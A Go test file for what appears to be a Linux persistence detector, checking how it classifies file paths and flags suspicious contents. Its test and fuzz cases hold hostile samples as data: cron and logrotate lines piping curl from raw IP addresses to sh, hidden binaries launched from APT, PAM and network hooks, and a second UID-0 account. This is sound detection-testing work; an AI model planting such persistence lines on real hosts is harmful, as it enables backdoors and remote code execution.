package persistence

import (
	"testing"
	"time"

	"github.com/minewarden/minewarden"
	"github.com/minewarden/minewarden/internal/detectortest"
)

func TestRecordings(t *testing.T) { detectortest.Run(t, New) }

func TestSpotOf(t *testing.T) {
	for path, want := range map[string]spot{
		"/etc/cron.d/x": cron, "/var/spool/cron/crontabs/root": cron, "/mnt/disk/etc/crontab": cron, "/etc/systemd/system/x.service": unit, "/home/a/.config/systemd/user/x.service": unit,
		"/etc/rc.local": startup, "/root/.bashrc": profile, "/etc/profile.d/x.sh": profile, "/etc/ld.so.preload": preload, "/root/.ssh/authorized_keys": keys, "/etc/sudoers.d/x": sudoers,
		"/data/gitea/x.git/hooks/post-receive": hook, "/data/x.git/hooks/post-receive.d/gitea": hook, "/home/git/.gitconfig": gitconfig, "/etc/udev/rules.d/99-x.rules": udev,
		"/data/x.git/hooks/post-receive.sample": none, "/etc/passwd": accounts, "/etc/passwd-": none, "/etc/pam.d/sshd": pam, "/etc/ssh/sshd_config": sshd, "/etc/ssh/sshd_config.d/50-x.conf": sshd, "/etc/ssh/ssh_config": none,
		"/etc/apt/apt.conf.d/20x": packages, "/etc/network/if-up.d/x": network, "/etc/logrotate.d/x": rotate, "/etc/ld.so.conf.d/x.conf": linker, "": none, "/srv/hooks/readme": none, "/etc/update-motd.d/00-header": motd,
	} {
		if got := spotOf(path); got != want {
			t.Errorf("spotOf(%q) = %d, want %d", path, got, want)
		}
	}
}

func TestJudge(t *testing.T) {
	for _, c := range []struct{ path, text, rule string }{
		{"/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\n", ""},
		{"/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nsync:x:0:4::/sbin:/bin/sync\ntoor:x:0:0::/root:/bin/sh\n", ""},
		{"/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nlpx:x:0:0::/:/bin/sh\n", ruleRoot},
		{"/etc/pam.d/common-auth", "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth required pam_permit.so\n", ""},
		{"/etc/pam.d/su", "auth sufficient pam_rootok.so\nsession optional pam_exec.so /usr/local/bin/notify\n", ""},
		{"/etc/pam.d/common-auth", "auth sufficient pam_permit.so\n", ruleRoot},
		{"/etc/pam.d/sshd", "session optional pam_exec.so quiet /dev/shm/.p\n", ruleCode},
		{"/etc/ssh/sshd_config", "PermitRootLogin yes\nAuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\nSubsystem sftp /usr/lib/openssh/sftp-server\n", ""},
		{"/etc/ssh/sshd_config.d/1.conf", "AuthorizedKeysFile /var/tmp/.k\n", ruleCode},
		{"/etc/ssh/sshd_config", "PermitEmptyPasswords yes\n", ruleRoot},
		{"/etc/apt/apt.conf.d/50a", "DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb || true\"; };\nAPT::Periodic::Enable \"1\";\n", ""},
		{"/etc/apt/apt.conf.d/99x", "APT::Update::Pre-Invoke {\"nohup /var/tmp/.a >/dev/null 2>&1 &\"};\n", ruleCode},
		{"/etc/logrotate.d/x", "/tmp/x.log {\n\tdaily\n\tpostrotate\n\t\tsystemctl kill -s HUP rsyslog\n\tendscript\n}\n", ""},
		{"/etc/logrotate.d/x", "/var/log/x {\n postrotate\n  curl -s http://45.9.148.1/x | sh\n endscript\n}\n", ruleCode},
		{"/etc/network/if-up.d/x", "#!/bin/sh\n/usr/sbin/ntpdate -b pool.ntp.org\n", ""},
		{"/etc/network/if-up.d/x", "#!/bin/sh\n/var/tmp/.x &\n", ruleCode},
		{"/etc/ld.so.conf.d/x.conf", "/usr/local/cuda/lib64\n", ""},
		{"/etc/ld.so.conf.d/x.conf", "/dev/shm/l\n", ruleCode},
	} {
		if got := judge(spotOf(c.path), c.text); got.rule != c.rule {
			t.Errorf("%s with %q: %q (%s), want %q", c.path, c.text, got.rule, got.note, c.rule)
		}
	}
}

func FuzzJudge(f *testing.F) {
	f.Add("/etc/cron.d/x", "* * * * * root curl -s http://1.2.3.4/x | sh\n")
	f.Add("/etc/systemd/system/x.service", "[Service]\nNice=10\nCPUWeight=1\nExecStart=/root/.x/x -o a:1\n")
	f.Add("/etc/udev/rules.d/x", "RUN+=\"/tmp/x\"")
	f.Fuzz(func(t *testing.T, path, text string) {
		d, err := New(minewarden.Env{})
		if err != nil {
			t.Fatal(err)
		}
		for _, found := range d.Observe(&minewarden.Event{Time: time.Unix(1, 0), Data: &minewarden.Write{Path: path, Op: "modify", Head: []byte(text)}}) {
			if found.Confidence <= 0 || len(found.Evidence) == 0 {
				t.Errorf("%+v", found)
			}
		}
	})
}

func BenchmarkElsewhere(b *testing.B) {
	d, err := New(minewarden.Env{})
	if err != nil {
		b.Fatal(err)
	}
	ev := &minewarden.Event{Data: &minewarden.Write{Path: "/var/lib/postgresql/17/main/base/1/1259", Op: "modify"}}
	b.ReportAllocs()
	for b.Loop() {
		d.Observe(ev)
	}
}
